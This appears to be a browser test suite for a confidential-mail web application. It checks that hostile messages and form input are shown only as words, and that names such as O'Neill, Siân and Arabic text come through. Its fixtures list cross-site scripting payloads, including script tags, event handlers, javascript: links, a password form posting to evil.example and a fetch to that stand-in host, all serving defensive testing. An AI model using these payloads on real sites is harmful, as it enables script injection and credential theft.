// Mail written to attack whoever looks at it: nothing in it runs, loads, links or steers, on any page it appears on. And names and texts
// that are merely not plain English, which must come through unharmed.
// SPDX-License-Identifier: GPL-3.0-or-later
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { Visitor, closeBrowser, openBrowser } from './support.mjs';
import { LOWE, MOSS, ONEILL, RFO, SIAN, WEBB, marked, nia, raise, ruth, seed } from './scene.mjs';

let lab;
before(async () => {
	await openBrowser();
	lab = await raise({ mail: false, people: [ruth, nia] });
});
after(async () => {
	await closeBrowser();
	await lab?.stop();
});

const encoded = (text) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
const ATTACKS = [
	'<script>globalThis.ran=1;alert(1)</script>', '"><img src=x onerror=alert(2)>', "'-alert(3)-'", '</textarea><svg onload=alert(4)>',
	'<iframe srcdoc="<script>parent.ran=5</script>"></iframe>', '<a href="javascript:alert(6)">click</a>', '{{7*7}}${7*7}', '<base href=//evil.example>',
	'<meta http-equiv=refresh content="0;url=http://evil.example/">', '<form action=http://evil.example><input name=password></form>', '<style>@import"http://evil.example/x.css";</style>',
	'<math><mi//xlink:href="data:x,<script>alert(8)</script>">', '\u202eexe.fdp\u202c', '%3Cscript%3Ealert(9)%3C/script%3E', '&lt;script&gt;alert(10)&lt;/script&gt;',
];

// HTML mail that would act, load and hide if it were shown as HTML.
const ACTIVE = `<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/a.css"><style>body{background:url(http://evil.example/b.png)}</style><script src="http://evil.example/c.js"></script></head>
<body onload="alert(1)"><p>In confidence, because it names a member of staff: the statement is below.</p>
<img src="http://evil.example/pixel.gif?id=1" onerror="alert(2)" alt="picture words"><iframe src="http://evil.example/d"></iframe>
<object data="http://evil.example/e"></object><form action="http://evil.example/f"><input name="password" value="x"><button>Log in again</button></form>
<svg><script>alert(3)</script></svg><a href="javascript:alert(4)">a link</a><p style="position:fixed;inset:0">over all</p>
<script>globalThis.ran = true; fetch('http://evil.example/g')</script><p>Dev Patel<br>Responsible Financial Officer</p></body></html>`;

const base64 = (text) => Buffer.from(text).toString('base64').replace(/(.{76})/g, '$1\n');

function withFiles(names) {
	const parts = names.map((name, n) => `--b\nContent-Type: application/octet-stream; name*=utf-8''${encodeURIComponent(name)}\nContent-Transfer-Encoding: base64\n`
		+ `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\n\n${base64(`file ${n}`)}\n`);
	return { extra: 'Content-Type: multipart/mixed; boundary=b\n',
		body: `--b\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n${base64(ACTIVE)}\n${parts.join('')}--b--\n` };
}

// Every page that can show anything of these messages.
async function everywhere(visitor, references) {
	const seen = [];
	for (const path of ['/desk', '/search?state=all', '/search?person=webb', '/statistics', ...references.map((reference) => `/message/${reference}`)]) {
		const answer = await visitor.open(path);
		assert.equal(answer.status(), 200, path);
		seen.push(await visitor.text());
		await inert(visitor, path);
	}
	for (const reference of references) {
		await visitor.open(`/message/${reference}`);
		await visitor.page.locator('form[action$="/content"] [name="reason"]').fill('To see what it does.');
		await visitor.press(visitor.page.locator('form[action$="/content"] button'));
		await inert(visitor, `text of ${reference}`);
		seen.push(await visitor.text());
	}
	return seen.join('\n');
}

// Only elements of our own making, that lead nowhere but to us.
async function inert(visitor, where) {
	const odd = await visitor.page.evaluate(() => ({
		ran: globalThis.ran ?? null,
		elements: [...document.querySelectorAll('script, iframe, object, embed, img, base, style, link:not([rel="stylesheet"], [rel="icon"]), meta[http-equiv], video, audio, math')].map((e) => e.outerHTML.slice(0, 100)),
		handlers: [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes]).filter((a) => /^on|^style$|^srcdoc$/i.test(a.name)).map((a) => `${a.name}=${a.value}`),
		addresses: [...document.querySelectorAll('[href], [src], [action], [formaction]')].flatMap((e) => ['href', 'src', 'action', 'formaction']
			.map((name) => e.getAttribute(name))).filter((value) => value !== null && !/^[/#]([^/\\]|$)/.test(value)),
	}));
	assert.deepEqual(odd, { ran: null, elements: [], handlers: [], addresses: [] }, where);
	await visitor.behaved();
}

for (const scripts of [true, false])
	describe(`hostile mail, ${scripts ? 'with' : 'without'} scripts`, () => {
		it('in subjects, names and file names, and as HTML: shown as words, and nothing more', async () => {
			const letters = ATTACKS.map((attack, n) => marked(`${n}`, { name: `"${encoded(attack)}"`, ...withFiles([`${attack}.pdf`.replaceAll('/', '∕')]),
				id: `hostile${n}${scripts}@lab.example` }));
			letters.push(marked('in the subject', { ...withFiles(ATTACKS.slice(0, 8)) }));
			letters.at(-1).raw = letters.at(-1).raw.replace(/^Subject: .*$/m, `Subject: ${encoded('CONFIDENTIAL <script>alert(1)</script>')}`);
			const references = await seed(lab, letters);
			const visitor = await Visitor.arrive(lab, { scripts });
			await visitor.logIn(ruth);
			if (scripts) {
				const text = await everywhere(visitor, references);
				assert.match(text, /the statement is below/, 'the words are there');
				assert.match(text, /onerror=alert\(2\)>.pdf/, 'file names as words');
				assert.doesNotMatch(text, /\u202e/, 'text that turns the reading direction is made harmless');
			} else { // no script runs here anyhow: what may be asked for over the network is the matter
				for (const path of ['/desk', ...references.slice(0, 3).map((reference) => `/message/${reference}`)])
					await visitor.open(path);
			}
			await visitor.leave();
		});
	});

describe('what people type', () => {
	it('attacks in fields of forms come back as words', async () => {
		const [reference] = await seed(lab, [marked('typed')]);
		const visitor = await Visitor.arrive(lab);
		await visitor.logIn(ruth);
		for (const attack of ATTACKS) {
			await visitor.open(`/search?text=${encodeURIComponent(attack)}&person=${encodeURIComponent(attack)}&rule=${encodeURIComponent(attack)}`);
			await inert(visitor, `search for ${attack}`);
			await visitor.open(`/login?to=${encodeURIComponent(attack)}&login=${encodeURIComponent(attack)}`);
			await inert(visitor, `log-in, ${attack}`);
			await visitor.open(`/message/${encodeURIComponent(attack)}`);
			await inert(visitor, `a message called ${attack}`);
			await visitor.open(`/link/${encodeURIComponent(attack)}`);
			await inert(visitor, `a link called ${attack}`);
		}
		await visitor.open(`/message/${reference}`);
		await visitor.page.locator('form[action$="/content"] [name="reason"]').fill(ATTACKS[1]);
		await visitor.press(visitor.page.locator('form[action$="/content"] button'));
		await visitor.open(`/message/${reference}`);
		assert.ok((await visitor.text()).includes(ATTACKS[1]), 'the reason stands in the history');
		await inert(visitor, 'the history');
		await visitor.leave();
	});
});

describe('names and scripts of the world', () => {
	it("O'Neill, Siân, +tags and right-to-left text come through, and can be found", async () => {
		const arabic = 'وثيقة سرية من المجلس';
		const body = (words) => `Dear Carl,\n\nIn confidence, because it names a member of staff: ${words}\n\nDev Patel\nResponsible Financial Officer\n`;
		const references = await seed(lab, [
			marked('to O’Neill', { others: ["sean.o'neill+pavilion@post.example"], cc: `"Seán O'Neill" <sean.o'neill+pavilion@post.example>` }),
			marked('for Siân', { others: ['siân@tŷ-newydd.example'], cc: `Siân Ŵynne-Jones <siân@tŷ-newydd.example>` }),
			marked('rtl', { cc: `${encoded('إيفي ويب')} <${WEBB}>`, body: body(`${arabic} -- עברית -- end`) }),
		]);
		const visitor = await Visitor.arrive(lab);
		await visitor.logIn(nia);
		await visitor.open(`/message/${references[0]}`);
		assert.match(await visitor.text(), /sean\.o'neill\+pavilion@post\.example/);
		await visitor.open(`/message/${references[1]}`);
		assert.match(await visitor.text(), /siân@tŷ-newydd\.example/);
		for (const [asked, reference] of [["sean.o'neill+pavilion@post.example", references[0]], ["Sean.O'Neill+pavilion@Post.example", references[0]],
			['siân@tŷ-newydd.example', references[1]]]) {
			await visitor.open(`/search?person=${encodeURIComponent(asked)}`);
			assert.equal(await visitor.page.locator(`a[href="/message/${reference}"]`).count(), 1, asked);
		}
		await visitor.open(`/message/${references[2]}`);
		await visitor.page.locator('form[action$="/content"] [name="reason"]').fill('rtl');
		await visitor.press(visitor.page.locator('form[action$="/content"] button'));
		assert.ok((await visitor.text()).includes(arabic));
		assert.equal(await visitor.page.locator('.zone').first().getAttribute('dir'), 'auto');
		await visitor.look('right-to-left');
		await visitor.leave();
	});

	it("the members' own names: O'Neill and Siân Pritchard", async () => {
		const references = await seed(lab, [
			marked("O'Neill sends", { from: RFO, hidden: [ONEILL, SIAN, LOWE] }),
		]);
		const visitor = await Visitor.arrive(lab);
		await visitor.logIn(ruth);
		await visitor.open(`/message/${references[0]}`);
		for (const name of ["Declan O'Neill", 'Siân Pritchard', 'Frances Lowe', 'Carl Moss'])
			assert.ok((await visitor.text()).includes(name), name);
		assert.ok((await visitor.text()).includes(MOSS));
		for (const asked of ["Declan O'Neill", "declan o'neill", ONEILL, 'Siân Pritchard', 'SIÂN PRITCHARD', SIAN]) {
			await visitor.open(`/search?person=${encodeURIComponent(asked)}`);
			assert.equal(await visitor.page.locator(`a[href="/message/${references[0]}"]`).count(), 1, asked);
		}
		await visitor.leave();
	});
});
